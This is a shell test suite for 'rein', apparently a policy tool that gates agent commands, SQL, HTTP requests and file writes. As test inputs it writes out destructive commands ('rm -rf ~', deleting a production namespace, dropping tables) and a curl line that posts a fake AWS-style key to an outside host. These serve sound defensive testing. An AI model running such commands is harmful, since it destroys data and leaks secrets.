#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# rein policy from outside: layers, trust, explanations, errors, the example in docs/policy.md.
load helper

@test "classify: an option of another kind of action is not passed over" {
	printf 'token = "%s%s"\n' "k3J9x-Qp72" "mZ+tR5wB8" >s.txt
	for how in "--op write" "--content s.txt" "--op delete --content s.txt"; do
		# shellcheck disable=SC2086
		eq "$how" "$(rein classify --json --kind file $how .env)" "$(rein classify --json $how .env)"
	done
	eq method "$(rein classify --json --kind http --method DELETE https://example.org/x)" "$(rein classify --json --method DELETE https://example.org/x)"
	eq dialect "$(rein classify --json --kind sql --dialect mysql 'drop table x')" "$(rein classify --json --dialect mysql 'drop table x')"
	for how in "--kind command --op write" "--kind sql --method GET" "--kind http --content s.txt" "--kind file --dialect mysql" "--op write --method GET"; do
		# shellcheck disable=SC2086
		run -125 rein classify $how x
		has "$output" "--kind"
	done
}

@test "init, trust, untrust: --json, and what was done is said" {
	eq init "$PWD/.rein.yaml" "$(rein policy init --json | field file)"
	eq trust "$PWD/.rein.yaml" "$(rein policy trust --json | field file)"
	eq untrust untrust "$(rein policy untrust --json | field done)"
	has "$(rein policy untrust 2>&1)" "only tighten"
	eq quiet "" "$(rein policy untrust -q 2>&1)"
	run -125 --separate-stderr rein policy init --json
	eq again wrong_state "$(field error.code <<<"$output")"
}

user_policy() { mkdir -p "$HOME/.config/rein" && cat >"$HOME/.config/rein/policy.yaml"; }
decision() { rein policy explain --json "$@" | field decision; }

@test "the built-in policy: sound, and its decisions" {
	run rein policy check
	eq status 0 "$status"
	eq ls allow "$(decision 'ls -la')"
	eq home hold "$(decision "rm -rf $HOME")"
	eq cluster ask "$(decision 'kubectl delete namespace prod')"
	eq sql ask "$(decision --kind sql 'drop table users')"
	eq production ask "$(decision --environment production 'touch a')"
}

@test "layers: the user decides, the project only tightens until it is trusted" {
	git init -q .
	user_policy <<-'P'
		version: 1
		rules:
		  - {id: push, match: {program: git, subcommand: push}, decide: allow}
	P
	eq user allow "$(decision 'git push')"
	cat >.rein.yaml <<-'P'
		version: 1
		rules:
		  - {id: k, match: {program: kubectl}, decide: allow}
		  - {id: make, match: {program: make}, decide: deny, message: not here, instead: ninja}
	P
	eq tightened deny "$(decision 'make')"
	eq untrusted ask "$(decision 'kubectl delete namespace prod')"
	run rein policy check
	has "$output" "'k': a project may only tighten"
	rein policy trust -q
	eq trusted allow "$(decision 'kubectl delete namespace prod')"
	echo '# changed' >>.rein.yaml
	eq changed ask "$(decision 'kubectl delete namespace prod')"
	rein policy trust -q
	mkdir "$T/other"
	cp .rein.yaml "$T/other"
	eq elsewhere ask "$(cd "$T/other" && git init -q . && decision 'kubectl delete namespace prod')"
	cp .rein.yaml "$T/whole"
	head -n 3 "$T/whole" >.rein.yaml # without what it forbids
	eq cut ask "$(decision 'kubectl delete namespace prod')"
	cp "$T/whole" .rein.yaml
	eq whole allow "$(decision 'kubectl delete namespace prod')"
	rein policy untrust
	eq untrusted ask "$(decision 'kubectl delete namespace prod')"
	mkdir -p sub/dir && cd sub/dir
	run rein policy explain make
	has "$output" "deny: not here"
	has "$output" "instead: ninja"
	has "$output" "(project, "
}

@test "workspace: what a project hides or protects is not written, whoever lets it be" {
	mkdir "$HOME/notes" kept && echo n >"$HOME/notes/x" && echo k >kept/x
	user_policy <<-'P'
		version: 1
		workspace: {writable: [~/notes], readonly: [./kept], scratch: [~/cache]}
	P
	rein run -q -- sh -c 'echo m >"$HOME/notes/x"'
	eq free m "$(cat "$HOME/notes/x")"
	printf 'version: 1\nworkspace: {readonly: [~/notes], hidden: [kept/**]}\n' >.rein.yaml
	run rein run -q -- sh -c 'echo o >"$HOME/notes/x"'
	[ "$status" != 0 ]
	eq protected m "$(cat "$HOME/notes/x")"
	run rein run -q -- cat kept/x
	[ "$status" = 1 ]
	printf 'version: 1\nworkspace: {hidden: [~/notes]}\n' >.rein.yaml
	run rein run -q -- sh -c 'cat "$HOME/notes/x"'
	[ "$status" != 0 ]
}

@test "workspace: what one layer hides, another's readonly, writable or scratch does not show" {
	mkdir -p secret/pub d/h vendor "$HOME/.ssh"
	echo seen | tee x secret/pub/f d/h/f vendor/x vendor/y vendor/a.pem b.pem .env "$HOME/.ssh/id" >/dev/null
	user_policy <<-'P'
		version: 1
		workspace: {hidden: [x, secret, d/h/**], writable: [secret/pub]}
	P
	printf 'version: 1\nworkspace: {readonly: [x, secret/pub, d/h/f, vendor, vendor/x, b.pem, .env, ~/.ssh]}\n' >.rein.yaml
	run rein run -- sh -c "cat x secret/pub/f d/h/f vendor/x vendor/a.pem b.pem .env $HOME/.ssh/id; true"
	eq status 0 "$status"
	hasnt "$output" seen
	run rein run --commit -- sh -c 'cat vendor/y; echo z >vendor/y'
	has "$output" seen
	has "$output" "Read-only file system"
	# the other way round: a project hides what its user lets be written
	printf 'version: 1\nworkspace: {hidden: [notes]}\n' >.rein.yaml
	mkdir notes work && echo seen >notes/f
	printf 'version: 1\nworkspace: {writable: [./notes], scratch: [work]}\n' | user_policy
	run rein run -- sh -c 'cat notes/f; true'
	hasnt "$output" seen
	# the command line's own word counts
	run rein run --ro .env -- cat .env
	has "$output" seen
}

@test "a broken policy: where, what, what was meant; and everything is denied" {
	printf 'version: 1\nrulez: []\n' >.rein.yaml
	run rein policy check
	eq status 125 "$status"
	has "$output" ".rein.yaml:2:1: 'rulez' is not a key here; did you mean 'rules'?"
	eq denied deny "$(decision ls 2>/dev/null)"
	rm .rein.yaml && mkfifo .rein.yaml
	eq fifo deny "$(decision ls 2>/dev/null)"
	rm .rein.yaml && ln -s "$HOME/elsewhere" .rein.yaml && : >"$HOME/elsewhere"
	eq link deny "$(decision ls 2>/dev/null)"
	rm .rein.yaml && : >.rein.yaml
	eq empty deny "$(decision ls 2>/dev/null)"
	rm .rein.yaml
	eq absent allow "$(decision ls)"
	run rein policy explain -p none.yaml ls
	has "$output" "there is no policy 'none.yaml'"
	has "$output" "deny"
}

@test "network: an allowed localhost is the box itself: an error with its place; a loopback address is remarked" {
	printf 'version: 1\nnetwork:\n  allow:\n  - example.org\n  - LocalHost:8080\n' >p.yaml
	run -125 rein policy check p.yaml
	has "$output" "p.yaml:5:5: network.allow: 'LocalHost:8080': in a box that is the box itself; this machine is host.rein.internal:8080"
	# and at a run, whose policy cannot be kept
	run rein run -p p.yaml -- true
	[ "$status" != 0 ]
	has "$output" "network.allow: 'LocalHost:8080'"
	printf 'version: 1\nnetwork: {allow: ["localhost"]}\n' >p.yaml
	run -125 rein policy check p.yaml
	has "$output" "p.yaml:2:19: network.allow: 'localhost'"
	printf 'version: 1\nnetwork:\n  allow: [example.org,\n    "127.0.0.1:5432", "[::1]:80"]\n  deny: [localhost, 127.0.0.1]\n' >p.yaml
	run -0 rein policy check p.yaml
	has "$output" "p.yaml:4: network.allow: '127.0.0.1:5432': a box that calls a loopback address reaches only itself: this machine is host.rein.internal:5432"
	has "$output" "'[::1]:80'"
	hasnt "$output" "network.deny"
	printf 'version: 1\nnetwork: {allow: ["host.rein.internal:5432", 192.0.2.7]}\n' >p.yaml
	run -0 rein policy check p.yaml
	hasnt "$output" "network.allow"
}

@test "test: status 1 and the line of a case that is not as expected" {
	cat >p.yaml <<-'P'
		version: 1
		tests:
		  - {action: ls, expect: allow}
		  - {action: ls, expect: deny}
	P
	run rein policy test p.yaml
	eq status 1 "$status"
	has "$output" "p.yaml:4: expected deny, decided allow"
	sed -i 4d p.yaml
	run rein policy test p.yaml
	eq status 0 "$status"
}

@test "show: what it prints is the same policy" {
	rein policy show >a.yaml
	rein policy check a.yaml
	rein policy show a.yaml >b.yaml
	cmp a.yaml b.yaml
}

@test "init: a file that fits the repository, once" {
	touch package.json Makefile
	rein policy init -q
	grep -q npm.publish .rein.yaml
	run rein policy test
	eq status 0 "$status"
	eq publish deny "$(decision 'npm publish')"
	run rein policy init
	has "$output" "there already"
}

@test "docs/policy.md: the example is sound and its tests pass" {
	sed -n '/^```yaml$/,/^```$/p' "$REIN_SOURCE/docs/policy.md" | sed '1d;$d' >example.yaml
	[ "$(wc -l <example.yaml)" -gt 60 ]
	run rein policy check example.yaml
	has "$output" "sound"
	run rein policy test example.yaml
	eq status 0 "$status"
	has "$output" "5 of 5"
}

@test "classify: the decision under the policy in force, one by one and in a batch" {
	git init -q .
	printf 'version: 1\nrules:\n  - {id: no-make, match: {program: make}, decide: deny, message: not here}\n' >.rein.yaml
	run rein classify 'make all'
	has "$output" "deny, rule no-make (project): not here"
	printf '%s\n' 'ls' 'make all' 'rm -rf ~' 'printf a\\tb\\\\n' >in
	rein classify --batch <in >out
	eq lines 4 "$(wc -l <out)"
	eq decisions "allow deny hold allow" "$(python3 -c 'import json,sys; print(*[json.loads(l)["decision"] for l in sys.stdin])' <out)"
	eq rules no-make "$(sed -n 2p out | field rule)"
	eq sql ask "$(echo 'drop table users' | rein classify --batch --kind sql | field decision)"
	eq http ask "$(echo 'DELETE https://api.example.com/users/1' | rein classify --batch --kind http | field decision)"
	eq file hold "$(echo 'write .git/hooks/pre-commit' | rein classify --batch --kind file | field decision)"
	printf 'key = "AKIA%s"\n' Z5T7Q2LMN8RVX3KD >content
	eq secret secret.in-content "$(rein classify --json --kind file --op write --content content notes.txt | field rule)"
	echo 'key = os.environ["KEY"]' >content
	eq no-secret allow "$(rein classify --json --kind file --op write --content content notes.txt | field decision)"
	eq body dangerous "$(rein classify --json "curl -d key=AKIA$(echo Z5T7Q2LMN8RVX3KD) https://example.com/x" | field level)"
	eq custom ask "$(echo 'transfer_funds' | rein classify --batch --kind custom | field decision)"
	eq stdin destructive "$(printf 'rm -rf ~\n' | rein classify --json | field level)"
	run rein classify --at 24:00 ls
	eq status 125 "$status"
	printf 'rulez: 1\n' >.rein.yaml
	eq broken deny "$(rein classify --json ls 2>/dev/null | field decision)"
}

@test "diff and suggest: what the record says about another policy, and about people's habits" {
	git init -q .
	run rein policy suggest
	has "$output" "nothing was answered the same way 3 times yet"
	printf 'version: 1\nrules:\n  - {id: careful, match: {program: touch}, decide: ask}\n' >ask.yaml
	mkdir -p "$HOME/.config/rein" && cp ask.yaml "$HOME/.config/rein/policy.yaml"
	for i in 1 2 3; do rein run -q -y -- touch "made$i"; done
	rein run -q -- ls >/dev/null
	run rein policy suggest
	has "$output" "# approved 3 times, never refused"
	has "$output" 'match: {program: "touch"'
	has "$output" "decide: allow"
	eq json allow "$(rein policy suggest --json | python3 -c 'import json,sys; print(json.load(sys.stdin)["suggestions"][0]["decide"])')"
	rein policy suggest -q >suggested.yaml
	rein policy check suggested.yaml
	printf 'version: 1\nrules:\n  - {id: never, match: {program: touch}, decide: deny}\n' >deny.yaml
	run rein policy diff deny.yaml
	has "$output" "ask   -> deny  never"
	has "$output" "3 of 4 recorded actions would be decided differently"
	run rein policy diff
	has "$output" "0 of 4 recorded actions would be decided differently"
}
